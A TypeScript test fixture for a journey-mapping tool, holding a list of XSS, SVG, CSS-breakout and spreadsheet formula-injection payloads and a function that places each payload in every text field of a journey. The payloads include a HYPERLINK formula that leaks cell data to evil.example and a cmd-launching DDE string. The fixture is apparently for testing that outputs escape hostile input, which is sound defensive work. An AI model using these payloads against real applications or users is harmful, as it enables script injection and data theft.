/**
 * Hostile text for the output matrix: markup, script URLs, SVG and CSS injection, spreadsheet
 * formulas. `hostileJourney()` puts every payload in every text field a journey has (title,
 * description, persona, stage, phase, lane title, card, emotion label) so one placement or render
 * sends each of them through each output.
 */
import { JOURNEY_SCHEMA_VERSION, JourneySchema, type Journey, type LaneKind } from '../../core/src/index.js';

/** Payloads an attacker would put in a shared CSV, with what each one tries. */
export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">open</a>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '</style><style>*{display:none}</style>',
  '</title></text><script>alert(2)</script>',
  ']]><!-- <![CDATA[ x ]]>',
  '&lt;b&gt;pre-escaped&lt;/b&gt; &amp; &#60;',
  '"double" & \'single\' `back`',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
] as const;

/** Starts of a cell that a spreadsheet runs as a formula (OWASP CSV injection). */
export const FORMULA_START = /^[=+\-@\t\r]/;

/** Lane kinds that carry cards, each drawn differently (sticky, card, quote…). */
const CARD_LANES: LaneKind[] = ['actions', 'touchpoints', 'painPoints', 'thoughts', 'opportunities'];

/**
 * A valid journey whose every text field holds a payload: one stage per payload (its name, phase
 * and description), one card per payload in each card lane, a persona named by a payload with a
 * hostile colour, lane titles and emotion labels from the payloads.
 *
 * @example hostileJourney().stages[0].name // '<script>alert(1)</script>'
 */
export function hostileJourney(texts: readonly string[] = HOSTILE_TEXTS): Journey {
  const pick = (index: number) => texts[index % texts.length] ?? 'x';
  const lanes = [...CARD_LANES, 'emotions' as const].map((kind, index) => ({ id: `lane-${kind}`, kind, title: pick(index + 3) }));
  return JourneySchema.parse({
    schemaVersion: JOURNEY_SCHEMA_VERSION,
    id: 'hostile',
    title: pick(0),
    locale: 'en',
    description: pick(1),
    personas: [
      {
        id: 'persona-0',
        name: pick(2),
        description: pick(3),
        goals: [pick(4)],
        motivations: [pick(5)],
        frustrations: [pick(6)],
        color: 'red}</style><script>alert(3)</script>',
      },
    ],
    stages: texts.map((text, index) => ({ id: `stage-${index}`, name: text, phase: pick(index + 1), description: pick(index + 2) })),
    lanes,
    cards: texts.flatMap((_, stage) =>
      CARD_LANES.map((kind, lane) => ({
        id: `card-${stage}-${kind}`,
        stageId: `stage-${stage}`,
        laneId: `lane-${kind}`,
        text: pick(stage + lane),
        personaId: 'persona-0',
        ...(kind === 'opportunities' ? { priority: stage + 1, count: 2 } : {}),
      })),
    ),
    emotions: texts.map((_, stage) => ({ stageId: `stage-${stage}`, personaId: 'persona-0', score: (stage % 5) - 2, label: pick(stage + 7) })),
  });
}
